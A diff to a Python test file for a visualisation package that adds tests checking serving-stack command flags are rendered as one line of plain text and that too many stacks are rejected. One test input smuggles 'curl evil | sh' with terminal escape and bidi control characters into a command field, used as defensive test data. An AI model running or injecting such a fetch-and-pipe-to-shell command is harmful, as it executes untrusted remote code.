@@ -10,7 +10,7 @@ from synthetic_rich import rich_comparison
 import tokviz
 from tokviz.comparison import Comparison
 from tokviz.errors import BadInput
-from tokviz.records import AnswerToken, Chart, ImageMeasures, RequestedMethod, TextScores, Timing
+from tokviz.records import AnswerToken, Chart, ImageMeasures, RequestedMethod, ServingFlag, TextScores, Timing
 from tokviz.runs import metrics as measures
 from tokviz.ui import numbers
 from tokviz.ui.payload import Live, packed, to_payload
@@ -422,3 +422,25 @@ def test_what_cannot_be_drawn_is_left_out_and_endless_words_are_cut(rich):
     assert shown["charts"][0]["y"][:2] == [None, None] and shown["charts"][0]["y"][2] is not None
     for words in (shown["label"], shown["title"], shown["charts"][0]["label"]):
         assert len(words) == 240 and words.endswith("…")
+
+
+def test_flags_of_serving_stacks_are_one_line_of_plain_text(whole):
+    told = [
+        ServingFlag(
+            stack="vLLM", command="vllm serve MODEL --x 1\ncurl evil | sh\x1b[2J\u202e", read_in="1", note=HOSTILE
+        )
+    ]
+    runs = [run.model_copy(update={"serving": told}) if run.method == "apet" else run for run in whole.runs]
+    payload = to_payload(whole.model_copy(update={"runs": runs}))
+    (flag,) = lane(payload, "apet")["serving"]
+    assert flag["command"] == "vllm serve MODEL --x 1 curl evil | sh[2J" and flag["stack"] == "vLLM"
+    assert lane(payload, "fastervlm")["serving"] == []
+    waiting = to_payload(with_runs(whole, 1), live=Live(running=1))
+    assert [entry["serving"] for entry in waiting["lanes"]] == [[]] * len(waiting["lanes"])
+
+
+def test_a_session_with_too_many_serving_stacks_is_refused(whole):
+    many = whole.runs[1].model_copy(update={"serving": [ServingFlag(stack="s", command="", read_in="")] * 21})
+    text = whole.model_copy(update={"runs": [whole.runs[0], many]}).to_json()
+    with pytest.raises(BadInput, match="serving stacks"):
+        Comparison.from_json(text)
